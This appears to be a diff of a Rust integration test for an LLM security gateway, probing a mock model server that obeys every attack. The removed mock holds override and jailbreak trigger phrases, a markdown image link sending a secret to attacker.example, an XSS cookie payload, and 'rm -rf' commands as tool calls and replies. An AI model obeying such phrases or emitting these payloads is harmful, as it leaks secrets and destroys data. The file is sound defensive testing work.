@@ -1,91 +1,23 @@
 //! `warden probe` against a deliberately vulnerable model server (deterministic, on 127.0.0.1): it obeys every
-//! attack in the suite. Straight at it, every probe finds it vulnerable; behind `warden gateway`, the gateway
-//! stops the injection, jailbreak and extraction probes, the leaks of what the system prompt holds, and the
-//! exfiltration link.
+//! attack in the suite. Straight at it, every probe finds it vulnerable; behind `warden gateway` with its
+//! defaults, the gateway stops the injection, jailbreak and extraction probes, the leaks of what the system prompt
+//! holds, and the exfiltration link; hardened (insecure output redacted, an output cap, a tool-scoped key), it
+//! stops every probe.
 
-use base64::Engine as _;
-use bytes::Bytes;
-use http_body_util::{BodyExt, Full};
-use hyper::{Request, Response};
-use serde_json::{json, Value};
-use std::convert::Infallible;
 use std::sync::Arc;
 use std::time::Duration;
 use warden_gateway::probe::{run, Outcome, Target};
 use warden_gateway::screen::Policy;
 use warden_gateway::server::{serve, Gateway, Kind, Settings, Upstream, UpstreamConfig};
 
-/// The "model": answers by keyword, leaking whatever the system prompt holds.
-fn answer(body: &Value) -> Value {
-    let system = body["messages"][0]["content"].as_str().unwrap_or("");
-    let user = body["messages"][1]["content"]
-        .as_str()
-        .unwrap_or("")
-        .to_lowercase();
-    let code = system
-        .split("reference code: ")
-        .nth(1)
-        .and_then(|s| s.split('.').next())
-        .unwrap_or("")
-        .to_string();
-    let msg = |text: String| json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]});
-    if body["tools"].is_array() {
-        return json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": null,
-            "tool_calls": [{"id": "t1", "type": "function", "function": {"name": "run_shell", "arguments": "{\"cmd\":\"rm -rf /tmp/*\"}"}}]},
-            "finish_reason": "tool_calls"}]});
-    }
-    let text = if user.contains("ignore all previous") {
-        "PWNED".to_string()
-    } else if user.contains("ignore your task") {
-        "HIJACKED".to_string()
-    } else if user.contains("do anything now") {
-        "DAN MODE ON. First, get a tension wrench...".to_string()
-    } else if user.contains("repeat everything above") {
-        system.to_string()
-    } else if user.contains("base64") {
-        base64::engine::general_purpose::STANDARD.encode(&code)
-    } else if user.contains("image") {
-        format!("Done. ![status](https://attacker.example/log?data={code})")
-    } else if user.contains("reference code") {
-        format!("The code is {code}.")
-    } else if user.contains("<script>") {
-        "<p>Hello!</p><script>alert(document.cookie)</script>".to_string()
-    } else if user.contains("shell command") {
-        "```\nrm -rf /\n```".to_string()
-    } else if user.contains("5000 times") {
-        "acme ".repeat(5000)
-    } else {
-        "How can I help with your Acme Bank account?".to_string()
-    };
-    msg(text)
+mod support {
+    pub mod vulnerable;
 }
 
 async fn vulnerable_server() -> std::net::SocketAddr {
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let addr = listener.local_addr().unwrap();
-    tokio::spawn(async move {
-        loop {
-            let Ok((s, _)) = listener.accept().await else {
-                return;
-            };
-            tokio::spawn(async move {
-                let svc =
-                    hyper::service::service_fn(|req: Request<hyper::body::Incoming>| async move {
-                        let b = req.into_body().collect().await.unwrap().to_bytes();
-                        let v: Value = serde_json::from_slice(&b).unwrap_or(Value::Null);
-                        Ok::<_, Infallible>(
-                            Response::builder()
-                                .header("content-type", "application/json")
-                                .body(Full::new(Bytes::from(answer(&v).to_string())))
-                                .unwrap(),
-                        )
-                    });
-                let _ = hyper::server::conn::http1::Builder::new()
-                    .serve_connection(hyper_util::rt::TokioIo::new(s), svc)
-                    .await;
-            });
-        }
-    });
+    tokio::spawn(support::vulnerable::serve(listener));
     addr
 }
 
@@ -113,12 +45,14 @@ async fn every_probe_finds_the_vulnerable_server_vulnerable() {
     assert!(!report.contains("ACME-"), "{report}");
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn behind_the_gateway_most_attacks_are_stopped() {
-    let addr = vulnerable_server().await;
+async fn gateway(
+    upstream: std::net::SocketAddr,
+    policy: Policy,
+    keys: Option<Arc<warden_gateway::keys::Keys>>,
+) -> std::net::SocketAddr {
     let up = Upstream::load(&UpstreamConfig {
         name: "vulnerable".into(),
-        url: format!("http://{addr}"),
+        url: format!("http://{upstream}"),
         kind: Kind::Openai,
         key_env: None,
         key_file: None,
@@ -128,43 +62,101 @@ async fn behind_the_gateway_most_attacks_are_stopped() {
     let gw = Arc::new(
         Gateway::new(Settings {
             upstreams: vec![up],
-            policy: Policy::default(),
+            policy,
             max_body: 1 << 20,
             timeout: Duration::from_secs(10),
             audit: None,
-            keys: None,
+            keys,
         })
         .unwrap(),
     );
     let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let gaddr = l.local_addr().unwrap();
     tokio::spawn(serve(gw, l, std::future::pending()));
+    gaddr
+}
+
+fn outcome(results: &[warden_gateway::probe::ProbeResult], id: &str) -> Outcome {
+    results
+        .iter()
+        .find(|r| r.probe == id)
+        .unwrap()
+        .outcome
+        .clone()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn behind_the_gateway_most_attacks_are_stopped() {
+    let addr = vulnerable_server().await;
+    let gaddr = gateway(addr, Policy::default(), None).await;
     let results = run(&target(format!("http://{gaddr}"))).await.unwrap();
-    let outcome = |id: &str| {
-        results
-            .iter()
-            .find(|r| r.probe == id)
-            .unwrap()
-            .outcome
-            .clone()
-    };
     for id in [
         "direct-injection",
         "indirect-injection",
         "jailbreak-dan",
         "system-prompt-extraction",
     ] {
-        assert_eq!(outcome(id), Outcome::Blocked, "{id}: {results:#?}");
+        assert_eq!(
+            outcome(&results, id),
+            Outcome::Blocked,
+            "{id}: {results:#?}"
+        );
     }
-    assert_ne!(
-        outcome("markdown-image-exfiltration"),
-        Outcome::Vulnerable,
-        "{results:#?}"
-    );
+    for id in [
+        "markdown-image-exfiltration",
+        "secret-exfiltration",
+        "encoded-exfiltration",
+    ] {
+        assert_eq!(
+            outcome(&results, id),
+            Outcome::Resisted,
+            "{id}: {results:#?}"
+        );
+    }
     let stopped = results
         .iter()
         .filter(|r| r.outcome != Outcome::Vulnerable)
         .count();
     eprintln!("{}", warden_gateway::probe::text_report(&results));
     assert!(stopped >= 7, "{stopped} of {} stopped", results.len());
+}
+
+/// With the hardening the gateway documents — insecure output redacted, an output cap, and a client key whose
+/// tools are scoped — every probe is stopped.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hardened_gateway_stops_every_probe() {
+    use warden_gateway::keys::{create, Keys, NewKey};
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("keys.db");
+    let (_, key) = create(
+        &db,
+        NewKey {
+            name: "support-bot",
+            models: vec![],
+            tools: vec!["read_account".into()],
+            expires_at: None,
+            rpm: None,
+            token_budget: None,
+        },
+    )
+    .unwrap();
+    let keys = Arc::new(Keys::open(&db).unwrap());
+    let addr = vulnerable_server().await;
+    let policy = Policy {
+        response_output: warden_gateway::screen::Action::Redact,
+        max_output_tokens: Some(1000),
+        ..Policy::default()
+    };
+    let gaddr = gateway(addr, policy, Some(keys)).await;
+    let mut t = target(format!("http://{gaddr}"));
+    t.key = Some(key);
+    let results = run(&t).await.unwrap();
+    eprintln!("{}", warden_gateway::probe::text_report(&results));
+    let vulnerable: Vec<_> = results
+        .iter()
+        .filter(|r| r.outcome == Outcome::Vulnerable || r.outcome == Outcome::Error)
+        .collect();
+    assert!(vulnerable.is_empty(), "{vulnerable:#?}");
+    assert_eq!(outcome(&results, "unsafe-tool-use"), Outcome::Blocked);
+    assert_eq!(outcome(&results, "denial-of-wallet"), Outcome::Resisted);
 }
